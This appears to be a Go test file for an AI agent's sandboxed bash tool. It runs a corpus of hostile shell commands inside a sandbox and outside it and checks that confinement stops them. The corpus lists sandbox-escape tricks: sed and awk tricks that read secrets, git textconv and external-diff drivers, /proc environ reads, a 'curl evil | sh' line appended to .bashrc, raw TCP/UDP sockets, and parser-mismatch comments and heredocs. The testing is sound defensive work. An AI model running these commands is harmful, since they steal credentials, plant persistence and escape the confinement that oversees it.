package bash_test

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tollgate-ai/tollgate/tools/bash"
)

// harm is one dangerous command of the corpus. Its text may name {OUT}
// (a directory outside the working directory), {SECRET} (a file in it),
// {HOME}, {PORT} and {UPORT} (a TCP and a UDP listener on 127.0.0.1) and
// {PID} (the test process), {CPID} (a process with a secret in its
// environment) and {BLOB} (the id of a committed secret in the working
// directory's alternate object store, outside it).
type harm struct {
	class string // the review class it stands for, or the earlier review
	cmd   string
	// confinedOnly: too dangerous to run unconfined on a real machine; the
	// confined run must see it fail (a non-zero exit).
	confinedOnly bool
}

// The corpus: at least one command per class of issue 12 and the earlier
// review's kinds of harm (write outside, read secrets, environment,
// network, signals).
var harmCorpus = []harm{
	{"1 sed [/] then e", `export S={SECRET}; echo x | sed 's/[/]*x/cat $S/e'`, false},
	{"1 sed [/] then w", `echo pwned | sed 's/[/]*p/P/w {OUT}/sed-w'`, false},
	{"2 backquotes", "echo `cat {SECRET}`", false},
	{"2 backquotes write", "echo `echo pwned > {OUT}/bq`", false},
	{"3 awk print redirect after a newline", "awk 'BEGIN { print \"pwned\",\n \"x\" > \"{OUT}/awk\" }'", false},
	{"3 awk getline", `awk 'BEGIN { while ((getline l < "{HOME}/.ssh/id_rsa") > 0) print l }'`, false},
	{"4 unquoted expansion", `f='{OUT}/loop'; for g in $f; do touch $g; done`, false},
	{"5 optional-value option then output operand", `uniq --group {SECRET} {OUT}/uniq`, false},
	{"5 diff --unified", `diff --unified {SECRET} /dev/null`, false},
	{"6 jq $ ENV", `jq -n '$ ENV.TOLLGATE_HARM_API_KEY'`, false},
	{"6 jq --rawfile", `jq -n --rawfile s {SECRET} '$s'`, false},
	{"7 date sets the clock", `date -s "@$(date +%s)"`, true},
	{"8 find -exec {} + adds an output operand", `find {OUT}/unrelated -name '*.txt' -exec uniq {} +`, false},
	{"9 LESSOPEN", `LESSOPEN='|touch {OUT}/less %s' less README`, false},
	{"9 lowercase proxy variable", `echo "$https_proxy"`, false},
	{"9 git reads above the working directory", `git --no-pager show HEAD:../outside/secret.txt; cat ../outside/secret.txt`, false},
	{"10 git textconv driver", `git --no-pager log -p --textconv -1`, false},
	{"10 git external diff", `GIT_EXTERNAL_DIFF="sh -c 'cat {SECRET}; touch {OUT}/extdiff' x" git diff --ext-diff`, false},
	{"earlier: ssh key", `cat ~/.ssh/id_rsa`, false},
	{"earlier: environment", `env`, false},
	{"earlier: another process's environment", `cat /proc/{CPID}/environ | tr '\0' '\n'`, false},
	{"earlier: shell startup file", `echo 'curl evil | sh' >> ~/.bashrc`, false},
	{"earlier: delete outside", `rm -f {OUT}/victim.txt`, false},
	{"earlier: truncate outside", `truncate -s 0 {OUT}/victim.txt`, false},
	{"earlier: symlink out", `ln -s {SECRET} {OUT}/link`, false},
	{"earlier: TCP", `exec 3<>/dev/tcp/127.0.0.1/{PORT}; echo hi >&3`, false},
	{"earlier: UDP", `echo hi > /dev/udp/127.0.0.1/{UPORT}`, false},
	{"earlier: signal the agent", `kill -0 {PID} && echo SIGNALED`, false},
	{"earlier: copy a secret into the workspace to read later", `cp {SECRET} ./leak && cat ./leak`, false},
	// Issue 21's five layer-1 classes, which the analysis allowed: two
	// places where bash reads a string differently from the parser, a
	// write through /dev/fd, content reads taken for listings, and git
	// objects named by id (here from a shared clone's alternate object
	// store outside the working directory).
	{"21.1 a comment ending in a backslash", "echo checking #\\\ncat {SECRET}", false},
	{"21.2 a here-document delimiter with a suffix", "cat <<'E'#;cat {SECRET}\nE\n", false},
	{"21.3 /dev/fd reopens a file read on that descriptor", `echo pwned 3<{OUT}/fd-victim.txt >/dev/fd/3`, false},
	{"21.3 exec, then /dev/fd", `exec 3<{OUT}/exec-victim.txt; echo pwned >/dev/fd/3`, false},
	{"21.4 file -m prints its magic file", `file -m {SECRET} README`, false},
	{"21.5 git cat-file and show of an object id", `git --no-pager cat-file -p {BLOB}; git --no-pager show {BLOB}`, false},
	// Issue 21's build 5: the built-in policy allows read-only commands
	// to name files outside the working directory (cat /etc/os-release,
	// ls -la ..) and leaves what they may read to the read-only view.
	{"21 build 5: reads outside the working directory", `grep -rh tok {OUT} ~ /tmp 2>/dev/null; cd .. && cat outside/secret.txt`, false},
}

// plant is the scene of one run: a working directory (a git repository
// with a change), secrets outside it, listeners.
type plant struct {
	work, out, home, secret string
	tokens                  []string
	tcp, udp                atomic.Int64
	port, uport, cpid       int
	blob                    string
}

func token() string {
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	return "tok" + hex.EncodeToString(b)
}

func newPlant(t *testing.T) *plant {
	t.Helper()
	base := t.TempDir()
	p := &plant{work: filepath.Join(base, "work"), out: filepath.Join(base, "outside"), home: filepath.Join(base, "home")}
	p.secret = filepath.Join(p.out, "secret.txt")
	fileTok, keyTok, envTok, proxyTok, blobTok := token(), token(), token(), token(), token()
	p.tokens = []string{fileTok, keyTok, envTok, proxyTok, blobTok}
	for name, data := range map[string]string{
		p.secret:                                   fileTok + "\n",
		filepath.Join(p.out, "victim.txt"):         "keep me\n",
		filepath.Join(p.home, ".ssh", "id_rsa"):    keyTok + "\n",
		filepath.Join(p.home, ".bashrc"):           "# rc\n",
		filepath.Join(p.work, "README"):            "hello\n",
		filepath.Join(p.work, "tracked.txt"):       "one\n",
		filepath.Join(p.home, ".gitconfig"):        "[user]\n\tname = t\n\temail = t@example.com\n",
		filepath.Join(p.out, "unrelated", "a.txt"): "a\n",
		filepath.Join(p.out, "unrelated", "b.txt"): "b\n",
		filepath.Join(p.out, "shared", ".env"):     blobTok + "\n",
		filepath.Join(p.out, "fd-victim.txt"):      "keep me\n",
		filepath.Join(p.out, "exec-victim.txt"):    "keep me\n",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(data), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", p.home)
	t.Setenv("TOLLGATE_HARM_API_KEY", envTok)
	t.Setenv("https_proxy", "http://user:"+proxyTok+"@proxy.example:3128")
	gitIn := func(dir string, args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	git := func(args ...string) { gitIn(p.work, args...) }
	// A repository outside with a committed secret, whose objects the
	// working directory's repository borrows (as git clone --shared
	// leaves it).
	shared := filepath.Join(p.out, "shared")
	gitIn(shared, "init", "-q")
	gitIn(shared, "add", ".env")
	gitIn(shared, "commit", "-q", "-m", "secret")
	p.blob = gitIn(shared, "rev-parse", "HEAD:.env")
	git("init", "-q")
	git("add", "README", "tracked.txt")
	git("config", "diff.conv.textconv", "touch "+p.out+"/textconv; cat")
	if err := os.WriteFile(filepath.Join(p.work, ".gitattributes"), []byte("*.txt diff=conv\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	git("add", ".gitattributes")
	git("commit", "-q", "-m", "init")
	alternates := filepath.Join(p.work, ".git", "objects", "info", "alternates")
	if err := os.WriteFile(alternates, []byte(filepath.Join(shared, ".git", "objects")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	child := exec.Command("sleep", "60")
	child.Env = []string{"TOLLGATE_HARM_CHILD_KEY=" + envTok}
	if err := child.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = child.Process.Kill(); _ = child.Wait() })
	p.cpid = child.Process.Pid
	if err := os.WriteFile(filepath.Join(p.work, "tracked.txt"), []byte("two\n"), 0o600); err != nil {
		t.Fatal(err)
	}

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	p.port = ln.Addr().(*net.TCPAddr).Port
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			p.tcp.Add(1)
			c.Close()
		}
	}()
	uc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { uc.Close() })
	p.uport = uc.LocalAddr().(*net.UDPAddr).Port
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := uc.ReadFrom(buf); err != nil {
				return
			}
			p.udp.Add(1)
		}
	}()
	return p
}

func (p *plant) expand(cmd string) string {
	return strings.NewReplacer("{OUT}", p.out, "{SECRET}", p.secret, "{HOME}", p.home,
		"{PORT}", strconv.Itoa(p.port), "{CPID}", strconv.Itoa(p.cpid), "{UPORT}", strconv.Itoa(p.uport), "{PID}", strconv.Itoa(os.Getpid()), "{BLOB}", p.blob).Replace(cmd)
}

// snapshot records every file outside the working directory that a
// command could harm: the outside directory and the home directory.
func (p *plant) snapshot(t *testing.T) map[string]string {
	t.Helper()
	m := map[string]string{}
	for _, root := range []string{p.out, p.home} {
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			info, err := os.Lstat(path)
			if err != nil {
				return err
			}
			v := fmt.Sprintf("%v %d", info.Mode(), info.Size())
			if info.Mode().IsRegular() {
				data, err := os.ReadFile(path)
				if err != nil {
					return err
				}
				v += fmt.Sprintf(" %x", sha256.Sum256(data))
			}
			m[path] = v
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return m
}

// harmDone says what harm a command did, "" if none.
func (p *plant) harmDone(before, after map[string]string, output string, tcp0, udp0 int64) string {
	var what []string
	if !maps.Equal(before, after) {
		for k, v := range after {
			if before[k] != v {
				what = append(what, "changed "+k)
			}
		}
		for k := range before {
			if _, ok := after[k]; !ok {
				what = append(what, "removed "+k)
			}
		}
	}
	for _, tok := range p.tokens {
		if strings.Contains(output, tok) {
			what = append(what, "leaked a secret")
		}
	}
	if strings.Contains(output, "SIGNALED") {
		what = append(what, "signalled the agent")
	}
	if p.tcp.Load() != tcp0 {
		what = append(what, "reached the TCP listener")
	}
	if p.udp.Load() != udp0 {
		what = append(what, "reached the UDP listener")
	}
	return strings.Join(what, "; ")
}

// run executes the corpus through the bash tool under profile and returns,
// per command, the harm it did and its result.
func runCorpus(t *testing.T, profile bash.Profile) (harms, results []string) {
	p := newPlant(t)
	tool := bash.New(&bash.Options{Dir: p.work, Profile: profile, Timeout: 10 * time.Second})
	for _, h := range harmCorpus {
		if h.confinedOnly && profile == bash.Unconfined {
			harms, results = append(harms, ""), append(results, "")
			continue
		}
		before := p.snapshot(t)
		tcp0, udp0 := p.tcp.Load(), p.udp.Load()
		r := runOne(t, tool, p.expand(h.cmd))
		// A connection or a packet may be counted a moment after the
		// command (the listeners' goroutines), more so on a loaded machine.
		wait := 20 * time.Millisecond
		if strings.Contains(h.cmd, "PORT}") {
			wait = 2 * time.Second
		}
		for end := time.Now().Add(wait); time.Now().Before(end) && p.tcp.Load() == tcp0 && p.udp.Load() == udp0; {
			time.Sleep(10 * time.Millisecond)
		}
		harms = append(harms, p.harmDone(before, p.snapshot(t), r.Content, tcp0, udp0))
		results = append(results, r.Content)
	}
	if profile != bash.Unconfined {
		time.Sleep(200 * time.Millisecond)
		if n, m := p.tcp.Load(), p.udp.Load(); n+m > 0 {
			t.Errorf("%s: %d connections and %d packets reached the listeners", profile, n, m)
		}
	}
	return harms, results
}

// TestHarm executes the dangerous corpus through the bash tool under
// read-only and asserts that nothing outside the working directory
// changed, no secret appeared in any output, no connection or packet
// reached the listeners, and the agent could not be signalled. The same
// corpus, unconfined, must do harm, command by command: the test sees harm
// when there is some.
func TestHarm(t *testing.T) {
	if err := bash.Check().Enforceable(bash.ReadOnly); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("CI: the sandbox must be enforced here: %v", err)
		}
		t.Skip(err)
	}
	confined, results := runCorpus(t, bash.ReadOnly)
	for i, h := range harmCorpus {
		if confined[i] != "" {
			t.Errorf("read-only, %s: %s did harm: %s\nresult: %s", h.class, h.cmd, confined[i], results[i])
		}
		if h.confinedOnly && strings.Contains(results[i], `"exit_code":0`) {
			t.Errorf("read-only, %s: %s succeeded: %s", h.class, h.cmd, results[i])
		}
	}
	unconfined, results := runCorpus(t, bash.Unconfined)
	for i, h := range harmCorpus {
		if !h.confinedOnly && unconfined[i] == "" {
			t.Errorf("unconfined, %s: %s did no harm, so the corpus proves nothing with it\nresult: %s", h.class, h.cmd, results[i])
		}
	}
}
